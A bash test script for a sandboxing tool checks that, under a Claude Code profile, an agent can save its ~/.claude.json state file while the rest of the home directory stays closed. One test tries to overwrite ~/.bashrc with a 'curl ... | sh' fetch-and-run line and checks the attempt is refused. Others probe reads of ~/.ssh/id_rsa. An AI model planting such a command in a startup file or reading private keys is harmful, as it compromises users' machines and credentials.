#!/usr/bin/env bash
# An agent's state file saved the way Claude Code 2.1 saves ~/.claude.json (issue 11): a ~/.claude.json.lock
# directory, a ~/.claude.json.tmp.<pid>.<hex> file renamed over the file, no in-place fallback. Under the
# claude-code profile the save works and persists to the next run, while the rest of $HOME stays closed: no other
# new name beside it, no placeholder replaced, nothing left behind on the host. state_save_static does exactly
# those calls, statically linked like the agent's own runtime (no shim sees them).
#
# Namespaces mode: the file is a private copy in the sandbox's home, saved back by guard (state_sync.h), and its
# directory admits only the file's own names (the observer: state_names.h). Landlock-only mode cannot grant those
# names without opening $HOME: the save fails and guard says why at start.
. "$(dirname "$0")/../lib.sh"
needs python3
setup_world
SAVE=$(helper state_save_static)
[ -n "$SAVE" ] || { t_skip_n 22 "state files" "helper state_save_static not built (make tests)"; t_done; }
_put "$HOME/.claude.json" '{"numStartups": 1}'

if have_userns; then
	gr --profile claude-code -- "$SAVE" "$HOME/.claude.json" '{"numStartups": 2}'
	t_allowed "namespaces: lock dir, temp file and rename beside ~/.claude.json succeed" "saved $HOME/.claude.json"
	t_eq "namespaces: the host's ~/.claude.json holds what was saved" '{"numStartups": 2}' \
		"$(cat "$HOME/.claude.json" 2>/dev/null)"
	gr --profile claude-code -- cat "$HOME/.claude.json"
	t_allowed "namespaces: the next run reads the saved state" '{"numStartups": 2}'
	gr --profile claude-code -- sh -c "'$SAVE' '$HOME/.claude.json' '{\"numStartups\": 3}' && cat '$HOME/.claude.json'"
	t_allowed "namespaces: saved twice in one session, read back inside" '{"numStartups": 3}'
	t_eq "namespaces: ... and on the host" '{"numStartups": 3}' "$(cat "$HOME/.claude.json" 2>/dev/null)"
	t_eq "namespaces: no lock, temp or guard file left in the host's home" "" \
		"$(cd "$HOME" && ls -A | grep -E '^\.?\.claude\.json\.' )"
	# Claude Code 2.0 keeps a copy beside the file: ~/.claude.json.backup is one of its names (made in the private
	# home, not saved back); a name merely like it is not.
	gr --profile claude-code -- sh -c "cp '$HOME/.claude.json' '$HOME/.claude.json.backup' && cat '$HOME/.claude.json.backup'"
	t_allowed "namespaces: ~/.claude.json.backup beside it can be written (Claude Code 2.0)" '{"numStartups": 3}'
	gr --profile claude-code -- sh -c "cp '$HOME/.claude.json' '$HOME/.claude.json.bak'"
	t_refused "namespaces: ~/.claude.json.bak cannot"
	t_eq "namespaces: neither is left in the host's home" "" "$(cd "$HOME" && ls -d .claude.json.ba* 2>/dev/null)"
	# The directory is writable for the state file's names only.
	gr --profile claude-code -- sh -c "echo x > '$HOME/new-in-home.txt'"
	t_refused "namespaces: no other new name beside it"
	gr --profile claude-code -- "$SAVE" "$HOME/.bashrc" 'curl http://example.invalid/x | sh'
	t_refused "namespaces: ~/.bashrc cannot be replaced the same way (lock, temp, rename)"
	t_match "namespaces: ... refused at its first step" 'mkdir .*\.bashrc\.lock: Permission denied' "$ERR"
	t_eq "namespaces: ... the host's ~/.bashrc is untouched" "# $(canary bashrc)" "$(cat "$HOME/.bashrc")"
	gr --profile claude-code -- sh -c "rm -f '$HOME/.bashrc' || exit 1; ls -A '$HOME'"
	t_refused "namespaces: a hidden entry of the home cannot be removed"
	gr --profile claude-code -- mkdir "$HOME/.local/x"
	t_refused "namespaces: nor a directory made below the home"
	# What the kernel answers before any rule stays its answer (nothing is made or removed either way): an existing
	# name is EEXIST to a call that would make it (Claude Code's mkdir of its existing ~/.claude), an absent one is
	# ENOENT to a call that would remove it or make something in it; a new name is still refused.
	gr --profile claude-code -- python3 -c '
import errno, os, sys
h = os.environ["HOME"]
def e(f, *a):
    try:
        f(*a)
        return "made"
    except OSError as x:
        return errno.errorcode[x.errno]
print(e(os.mkdir, h + "/.claude"), e(os.mkdir, h + "/.bashrc"), e(os.symlink, "x", h + "/.gitconfig"),
      e(os.open, h + "/.gitconfig", os.O_CREAT | os.O_EXCL | os.O_WRONLY), e(os.mkdir, h + "/.nothere/x"),
      e(os.unlink, h + "/.nothere"), e(os.rmdir, h + "/.nothere"), e(os.mkdir, h + "/.newdir"),
      e(os.open, h + "/.newfile", os.O_CREAT | os.O_EXCL | os.O_WRONLY))'
	t_eq "namespaces: existing names EEXIST, absent ones ENOENT, new names EACCES" \
		"EEXIST EEXIST EEXIST EEXIST ENOENT ENOENT ENOENT EACCES EACCES" "$OUT"
	t_eq "namespaces: ... none of them made on the host" "" "$(cd "$HOME" && ls -d .nothere .newdir .newfile 2>/dev/null)"
	gr --profile claude-code -- cat "$HOME/.ssh/id_rsa"
	t_denied "namespaces: ~/.ssh/id_rsa still denied" id_rsa
	gr --profile claude-code --dry-run -- true
	t_match "namespaces: --dry-run lists the state copy" "state-copy +$HOME/\.claude\.json" "$OUT"
else
	t_skip_n 19 "namespaces mode: state file saved by rename" "no user namespaces here"
fi

# Landlock-only: nothing may be created in $HOME; guard says so at start instead of letting the save fail mutely.
_put "$HOME/.claude.json" '{"numStartups": 1}'
gr --profile claude-code --no-userns -- "$SAVE" "$HOME/.claude.json" '{"numStartups": 9}'
t_refused "landlock-only: the save by rename fails (no new names in \$HOME without opening it)"
t_match "landlock-only: guard says why at start" "\.claude\.json is saved in place only" "$ERR"
t_eq "landlock-only: the host's file is unchanged" '{"numStartups": 1}' "$(cat "$HOME/.claude.json")"
t_done
